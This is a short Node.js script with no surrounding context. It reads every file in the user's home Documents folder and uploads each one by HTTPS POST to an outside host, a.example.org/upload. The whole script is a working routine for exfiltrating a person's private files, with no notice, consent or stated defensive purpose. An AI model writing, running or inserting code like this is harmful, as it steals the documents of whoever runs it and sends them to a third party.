const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');
const folder = path.join(os.homedir(), 'Documents');
for (const name of fs.readdirSync(folder)) {
  const request = https.request({ hostname: 'a.example.org', path: '/upload', method: 'POST' });
  fs.createReadStream(path.join(folder, name)).pipe(request);
}
